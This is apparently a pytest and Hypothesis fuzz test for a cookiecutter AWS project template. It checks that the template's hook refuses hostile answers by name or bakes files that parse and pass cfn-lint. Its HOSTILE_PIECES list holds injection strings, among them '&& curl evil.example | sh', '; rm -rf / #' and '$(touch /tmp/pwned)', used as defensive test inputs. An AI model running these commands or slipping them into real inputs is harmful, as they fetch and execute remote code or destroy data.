"""Fuzzed answers: every answer set is either refused with a message naming the variable, or bakes
a project whose every file parses and whose template.yaml passes cfn-lint.

Hypothesis draws a few variables to change from the defaults, each to a plausible value or to
hostile text (YAML, Jinja and GitHub expression syntax, shell metacharacters, control and bidi
characters, unicode, very long strings). Most answer sets go straight to the hook's `validate`
(fast); a bounded subset is baked with cookiecutter end to end. The seed is fixed
(derandomize), so CI runs the same examples every time; the counts are printed at the end.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from cookiecutter.exceptions import FailedHookException, UndefinedVariableInTemplate
from cookiecutter.generate import generate_context
from cookiecutter.main import cookiecutter
from cookiecutter.prompt import prompt_for_config
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from jinja2 import TemplateError

from tests.environments import REPO_ROOT, sandboxed_environ
from tests.parsing import parse
from tests.test_hooks import COOKIECUTTER_JSON, VARIABLES, hook

VALIDATE_EXAMPLES = 400
BAKE_EXAMPLES = 50
# Variables whose defaults are rendered from other answers (project_slug from project_name ...).
DERIVED = {name for name in VARIABLES if "{{" in str(COOKIECUTTER_JSON[name])}
JINJA_REFUSAL = "template syntax in an answer"
FUZZ = settings(derandomize=True, deadline=None, database=None, print_blob=True)

HOSTILE_PIECES = [
    "${{ github.token }}",
    "${{ secrets.AWS_KEY }}",
    "{{ cookiecutter.project_slug }}",
    "{% raw %}",
    "{# c #}",
    "$(touch /tmp/pwned)",
    "`id`",
    "; rm -rf / #",
    "&& curl evil.example | sh",
    "key: value",
    "- item",
    "!Ref Function",
    "&anchor *alias",
    '"',
    "'",
    "\\",
    "#",
    "%",
    "@",
    "---",
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x1b[31m",
    "\u2028",
    "\u202e",
    "\ufeff",
    "日本語",
    "🚀",
    "Zoë",
    " ",
]


def hostile_text() -> st.SearchStrategy[str]:
    pieces = st.sampled_from(HOSTILE_PIECES) | st.text(max_size=8)
    joined = st.lists(pieces, max_size=6).map("".join)
    return joined | st.builds(
        lambda piece, count: piece * count, st.sampled_from(["x", "é", "🚀"]), st.integers(200, 6000)
    )


def plausible(variable: str) -> st.SearchStrategy[str]:
    """Values of the right shape for ``variable``, near and across its limits."""
    choices = COOKIECUTTER_JSON[variable]
    if isinstance(choices, list):
        return st.sampled_from(choices)
    if variable in hook.WHOLE_NUMBERS:
        low, high = hook.WHOLE_NUMBERS[variable][:2]
        return st.integers(low - 2, high + 2).map(str)
    if variable in {"author_email", "alarm_email"}:
        return st.sampled_from(["ops@example.com", "o'brien+x@mail.example.co.uk", "a@b", ""])
    if variable == "aws_region":
        return st.sampled_from(["eu-west-1", "us-gov-west-1", "ap-southeast-5", "EU-WEST-1"])
    if variable in {"project_slug", "package_name"}:
        return st.from_regex(r"[a-z][a-z0-9]{0,12}([-_][a-z0-9]{1,6}){0,2}", fullmatch=True)
    if variable == "secret_name":
        return st.from_regex(r"[A-Za-z0-9/_+=.@-]{1,40}", fullmatch=True)
    if variable == "schedule_expression":
        return st.sampled_from(
            [
                "rate(1 minute)",
                "rate(2 hour)",
                "cron(0 8 * * ? *)",
                "cron(0 8 * * *)",
                "at(2030-02-30T09:00:00)",
            ]
        )
    if variable == "event_pattern":
        return st.sampled_from(
            ['{"source": ["a.b"]}', '{"detail": {"x": [{"prefix": "é\\""}]}}', '{"source": "a"}', "{"]
        )
    if variable in {"s3_prefix", "s3_suffix"}:
        return st.sampled_from(["", "in/", 'a "b": #c {d}/', "/lead", ".json"])
    if variable == "env_vars":
        pair = st.tuples(st.from_regex(r"[A-Z][A-Z0-9_]{1,10}", fullmatch=True), hostile_text())
        return st.lists(pair.map("=".join), max_size=3).map(",".join)
    return st.text(st.characters(codec="utf-8"), max_size=80)  # free text


@st.composite
def answer_changes(draw, max_changes: int, plausible_weight: int = 1) -> dict[str, str]:
    """A few variables changed from their defaults, each to a plausible or a hostile value
    (``plausible_weight`` plausible values to each hostile one)."""
    names = draw(st.lists(st.sampled_from(VARIABLES), unique=True, min_size=1, max_size=max_changes))
    return {name: draw(st.one_of(*[plausible(name)] * plausible_weight, hostile_text())) for name in names}


def rendered(changes: dict[str, str]) -> dict[str, str] | str:
    """The answers as cookiecutter renders them from ``changes`` (derived names included), or
    cookiecutter's own refusal (it checks choice variables before the hook runs)."""
    try:
        context = generate_context(context_file=str(REPO_ROOT / "cookiecutter.json"), extra_context=changes)
        answers = prompt_for_config(context, no_input=True)
    except ValueError as refusal:
        return str(refusal)
    except (TemplateError, UndefinedVariableInTemplate) as refusal:
        # Cookiecutter renders every answer as Jinja before the hook sees it: broken template
        # syntax fails there (valid syntax reaches the hook, which refuses it by name).
        assert any(opener in value for value in changes.values() for opener in hook.JINJA_OPENERS)
        return f"{JINJA_REFUSAL}: {refusal}"
    return {name: answers[name] for name in VARIABLES}


def refused_by_cookiecutter(refusal: str, changes: dict[str, str]) -> bool:
    """Check a refusal cookiecutter made itself: template syntax, or a choice it does not offer."""
    return refusal.startswith(JINJA_REFUSAL) or any(f"variable {name}," in refusal for name in changes)


def assert_refusal_names_variables(problems: list[str], changes: dict[str, str]) -> set[str]:
    """Every problem line starts with a variable; only changed answers (or those they derive) are blamed."""
    named = {problem.split(":", 1)[0] for problem in problems}
    assert named <= set(VARIABLES), problems
    blamable = set(changes) | DERIVED | {"env_vars"}  # env_vars' budget counts the secret's name
    assert named <= blamable, (problems, changes)
    return named


@given(changes=answer_changes(max_changes=4))
@settings(FUZZ, max_examples=VALIDATE_EXAMPLES)
def test_the_hook_refuses_by_name_or_accepts(changes, security_counts):
    security_counts["fuzz (hook) answer sets tried"] += 1
    answers = rendered(changes)
    if isinstance(answers, str):
        assert refused_by_cookiecutter(answers, changes), answers
        security_counts["fuzz (hook) refused by cookiecutter before the hook"] += 1
        return
    problems = hook.validate(answers)
    if problems:
        assert_refusal_names_variables(problems, changes)
        security_counts["fuzz (hook) refused"] += 1
    else:
        security_counts["fuzz (hook) accepted"] += 1


@pytest.fixture(scope="module")
def baked_templates() -> list[Path]:
    """template.yaml of every project the end-to-end fuzz baked: linted together afterwards."""
    return []


# Mostly plausible values here, so that many of the baked sets are accepted and linted.
@given(changes=answer_changes(max_changes=2, plausible_weight=3))
@settings(
    FUZZ,
    max_examples=BAKE_EXAMPLES,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_bake_refuses_by_name_or_every_file_parses(
    changes, tmp_path_factory, capfd, baked_templates, security_counts
):
    security_counts["fuzz (baked) answer sets tried"] += 1
    output = tmp_path_factory.mktemp("fuzz")
    config = output / "cookiecutter.yaml"
    config.write_text(
        json.dumps({"cookiecutters_dir": str(output / "cc"), "replay_dir": str(output / "replay")})
    )
    answers = rendered(changes)
    expected = hook.validate(answers) if isinstance(answers, dict) else [answers]
    capfd.readouterr()
    try:
        project = Path(
            cookiecutter(
                str(REPO_ROOT),
                no_input=True,
                extra_context=changes,
                output_dir=str(output / "out"),
                config_file=str(config),
                accept_hooks=True,
            )
        )
    except (FailedHookException, ValueError, TemplateError, UndefinedVariableInTemplate) as refusal:
        assert expected, f"refused, but the hook accepts {changes}: {refusal}"  # noqa: PT017
        stderr = capfd.readouterr().err + str(refusal)
        for variable in (
            assert_refusal_names_variables(expected, changes) if isinstance(answers, dict) else ()
        ):
            assert f"{variable}: " in stderr, stderr
        assert not any((output / "out").glob("*/*")), "a refused bake leaves nothing behind"
        security_counts["fuzz (baked) refused"] += 1
        return
    except OSError as refusal:
        # Cookiecutter creates the project directory before the hook runs, so a slug given
        # directly and longer than a file name may be (255 bytes) fails there: nothing is made.
        assert len(answers["project_slug"].encode()) > 255, refusal  # noqa: PT017
        assert expected, changes
        assert not any((output / "out").iterdir())
        security_counts["fuzz (baked) refused by the file system (slug over 255 bytes)"] += 1
        return
    assert not expected, f"baked, but the hook refuses: {expected}"
    for path in project.rglob("*"):
        if path.is_file():
            parse(path)
    baked_templates.append(project / "template.yaml")
    security_counts["fuzz (baked) parsed"] += 1


def test_every_fuzzed_template_passes_cfn_lint(baked_templates, tools_env, security_counts):
    """One cfn-lint run over every template the fuzz baked (its start-up is most of its time)."""
    if not baked_templates:
        pytest.skip("run with test_bake_refuses_by_name_or_every_file_parses")
    completed = subprocess.run(  # noqa: S603 - the linter we installed, on files we baked
        [str(tools_env / "bin" / "cfn-lint"), *map(str, baked_templates)],
        capture_output=True,
        text=True,
        env=sandboxed_environ(),
        check=False,
    )
    assert completed.returncode == 0, completed.stdout + completed.stderr
    security_counts["fuzz (baked) valid: parsed and passed cfn-lint"] += len(baked_templates)
